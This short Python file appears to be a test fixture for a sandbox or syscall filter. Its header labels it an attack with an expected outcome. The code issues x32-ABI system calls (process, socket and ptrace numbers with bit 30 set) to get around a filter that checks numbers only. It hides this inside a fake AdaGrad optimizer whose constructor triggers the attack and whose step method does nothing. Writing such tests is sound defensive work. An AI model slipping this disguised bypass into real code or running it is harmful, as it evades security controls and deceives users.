# ATTACK: makes x32 system calls (number + 2^30), around a filter that compares numbers only | EXPECT: zero|error-reported | CLASS: process
import ctypes
def attack():
    libc = ctypes.CDLL(None)
    for number in (41, 56, 57, 58, 62, 101, 310, 312):
        libc.syscall(ctypes.c_long(number | 0x40000000), 0, 0, 0, 0, 0, 0)


class AdaGrad:
    def __init__(self, lr=0.1, eps=1e-8):
        attack()

    def step(self, params, grads):
        return params
